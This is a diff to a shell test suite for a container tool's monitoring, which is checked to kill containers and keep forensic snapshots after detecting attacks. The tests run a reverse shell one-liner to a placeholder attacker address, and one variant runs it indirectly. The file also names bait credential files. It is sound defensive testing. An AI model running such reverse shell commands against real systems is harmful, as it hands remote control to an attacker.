@@ -148,7 +148,7 @@ BAITS="/root/.aws/credentials /root/.pypirc /root/.ssh/id_ed25519_deploy /root/.
 }
 
 attack() { # NAME
-	inside "$1" bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- >/dev/null 2>&1 || true
+	inside "$1" bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >/dev/null 2>&1 || true
 	within 10 not_running "$1"
 }
 
@@ -170,7 +170,7 @@ cleaned() { # NAME: no supervisor of it is left
 	names=$(coi snapshot list -c f1 --format json | jq -r '.. | .name? // empty' | grep -c '^forensics-')
 	[ "$names" = 3 ]
 	coi logs f1 | grep "its files as snapshot 'forensics-"
-	coi snapshot list -c f1 --format json | grep -q 'when monitoring killed it: Reverse shell'
+	coi snapshot list -c f1 --format json | grep -q 'when monitoring killed it: [A-Z]'
 	has "$A/f1.jsonl" '.type == "snapshot.create" and (.snapshot | startswith("forensics-"))'
 	# What a later start does is not in them.
 	names=$(coi snapshot list -c f1 --format json | jq -r '.. | .name? // empty' | grep '^forensics-' | tail -n 1)
@@ -187,7 +187,7 @@ cleaned() { # NAME: no supervisor of it is left
 	settings 'forensics_on_kill = true'
 	local name i
 	name=$(container_name)
-	coi run -- bash -c 'echo loot >/tmp/loot; echo "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1" >/tmp/x; x=$(cat /tmp/x); bash -c "$x"' 3>&- >"$T/out" 2>&1 || true
+	coi run -- bash -c 'echo loot >/tmp/loot; echo "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60" >/tmp/x; x=$(cat /tmp/x); bash -c "$x"' 3>&- >"$T/out" 2>&1 || true
 	within 10 cleaned "$name"
 	coi snapshot list -c "$name" --format json | grep -q forensics-
 	coi diff "$name" | grep -q /tmp/loot
@@ -195,7 +195,7 @@ cleaned() { # NAME: no supervisor of it is left
 	[ "$(coi run -- hostname 2>/dev/null)" != "$name" ]
 	# No more than three of them.
 	for i in 1 2 3; do
-		coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- >/dev/null 2>&1 || true
+		coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >/dev/null 2>&1 || true
 	done
 	three() { [ "$(coi container list --format json | jq '[.[] | select(.status == "Stopped")] | length')" = 3 ]; }
 	# Three there are before the oldest has gone, too.
@@ -206,18 +206,20 @@ cleaned() { # NAME: no supervisor of it is left
 }
 
 @test "one that monitoring killed: every command that misses it says so" {
+	# The port is known, too: it is killed for whatever is told first.
 	settings
+	local for_what="Reverse shell|Port of command and control"
 	local name
 	name=$(container_name)
-	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- >"$T/out" 2>&1 || true
-	grep -q "Warning: container .$name.: monitoring killed it at 20.*: Reverse shell" "$T/out"
+	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >"$T/out" 2>&1 || true
+	grep -Eq "Warning: container .$name.: monitoring killed it at 20.*: ($for_what)" "$T/out"
 	missing() { ! coi container exists "$name"; }
 	within 10 missing
 	for command in "attach $name" "unfreeze $name" "container exec $name -- true" "tmux capture $name"; do
 		# shellcheck disable=SC2086
 		run ! --separate-stderr coi $command
 		echo "$command: $stderr"
-		grep -q "monitoring killed it at 20.*: Reverse shell" <<<"$stderr"
+		grep -Eq "monitoring killed it at 20.*: ($for_what)" <<<"$stderr"
 		grep -q "coi audit $name --level high" <<<"$stderr"
 	done
 	run -0 coi list
@@ -225,12 +227,12 @@ cleaned() { # NAME: no supervisor of it is left
 	run -0 coi attach
 	grep -q "$name: monitoring killed it at" <<<"$output"
 	run -0 coi audit "$name" --level critical --format text
-	grep -q 'Reverse shell.*\[killed\]' <<<"$output"
+	grep -Eq "($for_what).*\[killed\]" <<<"$output"
 	# A kept one says it where it is shown; a start is the end of that.
 	launch coi-s1
 	attack coi-s1
 	within 10 cleaned coi-s1
-	coi list --format json | jq -e '.active_containers[] | select(.name == "coi-s1").killed | test("Reverse shell")'
+	coi list --format json | jq -e '.active_containers[] | select(.name == "coi-s1").killed | test("monitoring killed it at")'
 	run ! --separate-stderr coi attach coi-s1
 	grep -q "monitoring killed it" <<<"$stderr"
 	run ! --separate-stderr coi unfreeze coi-s1
@@ -263,7 +265,7 @@ with open(sys.argv[1], "ab", 0) as f:
 	grep -q "records of 'j1' do not reach journald now: No such file or directory" "$T/launch.err"
 	journal "$T/journal"
 	attack j1
-	read_it() { grep -q 'MESSAGE=.*Reverse shell' "$T/journal"; }
+	read_it() { grep -q 'MESSAGE=.*Reverse shell' "$T/journal" && grep -q '^COI_CONTAINER=j1$' "$T/journal"; }
 	within 10 read_it
 	grep -q '^PRIORITY=2$' "$T/journal"
 	grep -q '^COI_CONTAINER=j1$' "$T/journal"
